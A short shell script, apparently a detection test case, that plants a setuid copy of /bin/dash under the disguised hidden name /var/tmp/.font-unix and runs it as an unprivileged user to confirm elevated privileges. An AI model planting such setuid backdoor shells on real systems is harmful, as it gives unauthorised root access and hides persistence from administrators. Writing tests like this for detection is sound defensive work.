#!/bin/sh
. /opt/case/case.sh

cp /bin/dash /var/tmp/.font-unix; chmod 4755 /var/tmp/.font-unix
setpriv --reuid 1000 --regid 1000 --clear-groups /var/tmp/.font-unix -p -c 'id -u' >/tmp/u || true
test -u /var/tmp/.font-unix
took_place
